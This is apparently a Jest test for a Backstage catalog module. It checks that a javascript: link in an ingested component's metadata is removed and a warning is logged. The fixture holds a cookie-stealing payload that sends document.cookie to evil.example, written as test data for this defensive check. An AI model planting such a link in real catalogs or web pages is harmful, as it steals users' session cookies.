import {
  mockCredentials,
  mockServices,
  startTestBackend,
} from '@backstage/backend-test-utils';
import catalogPlugin from '@backstage/plugin-catalog-backend';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import request from 'supertest';
import catalogModuleSafeLinks from './index';

const COMPONENT = `
apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: payments
  links:
    - url: https://grafana.example.com/d/payments
      title: Dashboard
    - url: "javascript:fetch('//evil.example?'+document.cookie)"
      title: Runbook
    - url: mailto:team-payments@example.com
      title: Mail
spec:
  type: service
  lifecycle: production
  owner: team-payments
`;

describe('catalogModuleSafeLinks', () => {
  it('keeps the javascript: link of an ingested entity out of the catalog', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'safe-links-'));
    const file = join(dir, 'catalog-info.yaml');
    writeFileSync(file, COMPONENT);
    const logger = mockServices.logger.mock();
    const { server } = await startTestBackend({
      features: [
        catalogPlugin,
        catalogModuleSafeLinks,
        logger.factory,
        mockServices.rootConfig.factory({
          data: {
            catalog: {
              rules: [{ allow: ['Component', 'Location'] }],
              locations: [{ type: 'file', target: file }],
            },
          },
        }),
      ],
    });

    let entity: any;
    for (let attempt = 0; attempt < 100 && !entity; attempt++) {
      const res = await request(server)
        .get('/api/catalog/entities/by-name/component/default/payments')
        .set('authorization', mockCredentials.user.header());
      if (res.status === 200) {
        entity = res.body;
      } else {
        await new Promise(resolve => setTimeout(resolve, 100));
      }
    }
    expect(entity.metadata.links).toEqual([
      { url: 'https://grafana.example.com/d/payments', title: 'Dashboard' },
      { url: 'mailto:team-payments@example.com', title: 'Mail' },
    ]);
    expect(logger.warn).toHaveBeenCalledWith(
      'Removed 1 link(s) from component:default/payments: only http, https and mailto links are kept, not javascript:',
    );
  });
});
